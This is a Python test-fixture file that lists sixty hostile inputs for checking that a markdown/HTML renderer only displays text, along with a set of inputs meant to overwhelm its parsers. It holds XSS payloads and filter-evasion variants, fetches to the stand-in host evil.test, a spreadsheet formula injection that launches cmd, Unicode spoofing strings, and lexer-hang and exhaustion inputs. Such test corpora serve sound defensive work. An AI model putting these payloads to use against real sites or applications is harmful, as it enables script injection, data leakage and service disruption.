"""Sixty texts that try to run, fetch, reorder, hide or overwhelm; each must only be seen.

A script that ran would set `window.owned`; a fetch would go to `evil.test`.
"""

OWN = "window.owned=1"
EVIL = "http://evil.test/x"
_FENCE = "`" * 3

HOSTILE = (
    f"<script>{OWN}</script>",
    f"<SCRIPT SRC={EVIL}.js></SCRIPT>",
    f"<scr<script>ipt>{OWN}</scr</script>ipt>",
    f"<img src=x onerror={OWN}>",
    f'<img src="{EVIL}.png">',
    f"![a picture]({EVIL}.png)",
    f"![a picture][ref]\n\n[ref]: {EVIL}.png",
    f'![]({EVIL}.png "title")',
    f"![x](data:image/svg+xml,<svg onload={OWN}>)",
    f"<svg onload={OWN}><circle r=4></svg>",
    f"<svg><script>{OWN}</script></svg>",
    f'<svg><image href="{EVIL}.svg"/></svg>',
    f'<svg><use href="{EVIL}.svg#a"/></svg>',
    f'<math><maction actiontype="statusline" xlink:href="javascript:{OWN}">x</maction></math>',
    f'<math href="javascript:{OWN}">x</math>',
    f'<iframe src="javascript:{OWN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{OWN}</script>"></iframe>',
    f"<iframe src={EVIL}></iframe>",
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f'<link rel=stylesheet href="{EVIL}.css">',
    f"<style>@import '{EVIL}.css'; * {{ background: url({EVIL}.gif) }}</style>",
    f'<div style="background:url({EVIL}.gif)">styled</div>',
    f'<base href="{EVIL}">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<form action="{EVIL}"><button autofocus onfocus={OWN}>press</button></form>',
    f"<input autofocus onfocus={OWN}>",
    f"<details open ontoggle={OWN}><summary>x</summary></details>",
    f"<video src={EVIL}.mp4 autoplay onerror={OWN}></video>",
    f"<audio src={EVIL}.mp3 autoplay></audio>",
    f"<marquee onstart={OWN}>x</marquee>",
    f"<body onload={OWN}>",
    f"<template><script>{OWN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={OWN}>">',
    f"<!--><img src=x onerror={OWN}>-->",
    f"<![CDATA[<script>{OWN}</script>]]>",
    f"[press me](javascript:{OWN})",
    f"[press me](JaVaScRiPt:{OWN})",
    f"[press me](java\tscript:{OWN})",
    f"[press me](&#106;avascript:{OWN})",
    f"[press me](data:text/html,<script>{OWN}</script>)",
    f"[press me](vbscript:{OWN})",
    f"<javascript:{OWN}>",
    f'[press me](http://ok.test/"onmouseover="{OWN})',
    f"[ref-link]\n\n[ref-link]: javascript:{OWN}",
    f"{_FENCE}html\n<script>{OWN}</script>\n{_FENCE}",
    f'{_FENCE}python"><img src=x onerror={OWN}>\nprint(1)\n{_FENCE}',
    f"`<img src=x onerror={OWN}>`",
    f"$\\text{{<img src=x onerror={OWN}>}}$",
    f"$$\\href{{javascript:{OWN}}}{{x}}$$",
    f"$$\\style{{background:url({EVIL})}}{{x}} \\newcommand{{\\a}}{{\\a\\a}}\\a$$",
    "\u202egnp.exe\u202c reversed, \u200bzero\u200bwidth\ufeff and \u2066isolated\u2069",
    "العربية מימין לשמאל mixed with English",
    "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a\u035b\u035c piled accents",
    "NUL \x00 bell \x07 escape \x1b[31m red",
    '=HYPERLINK("http://evil.test/x","press")\n@SUM(1+1)*cmd|\' /C calc\'!A0',
    "> " * 400 + "deep quotes",
    "[" * 20_000,
    "*_" * 20_000,
    "x" * 1_000_000,
)
assert len(HOSTILE) == 60

OVERWHELMING = {
    "a lexer that never ends": f"{_FENCE}tnt\n((",
    "a lexer whose time grows with the square": f"{_FENCE}autohotkey\n" + "\n" * 20_000 + "x",
    "marks without end": "*_" * 30_000,
    "formulas that break their library": "$\\text$, $\\left$, $\\big$, \\(\\genfrac\\)",
    "who made it, again and again": "我由" * 20_000,
    "nesting": "> " * 10_000 + "deep",
    "an idiom, again and again": "kind of " * 10_000 + "it",
}
"""By kind: texts that overwhelm what reads or draws them."""
